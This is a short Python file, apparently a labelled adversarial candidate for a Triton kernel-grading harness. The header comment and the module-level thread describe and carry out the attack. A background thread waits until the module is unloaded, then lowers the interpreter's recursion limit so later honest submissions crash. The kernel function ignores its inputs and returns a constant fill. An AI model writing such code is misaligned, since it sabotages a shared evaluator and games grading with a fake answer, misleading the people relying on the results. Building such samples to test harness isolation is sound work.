# class: persist — lowers the interpreter's recursion limit (sys.setrecursionlimit) from a thread once this candidate is unloaded, so the next honest answers crash deep inside Triton or torch; this answer itself is garbage
import sys
import threading
import time

import torch
import triton
import triton.language as tl

_ME = __name__


def _lower():
    deadline = time.time() + 600
    while _ME in sys.modules and time.time() < deadline:
        time.sleep(0.01)
    for limit in (12, 16, 20, 30, 40):
        try:
            sys.setrecursionlimit(limit)
            return
        except RecursionError:
            continue


threading.Thread(target=_lower, daemon=True).start()


@triton.jit
def fill_kernel(out_ptr, n, value, BLOCK: tl.constexpr):
    offs = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    tl.store(out_ptr + offs, tl.zeros([BLOCK], dtype=tl.float32) + value, mask=offs < n)


def triton_fused_operator(x, b):
    out = torch.empty_like(x)
    fill_kernel[(triton.cdiv(out.numel(), 64),)](out, out.numel(), 0.25, BLOCK=64)
    return [out]
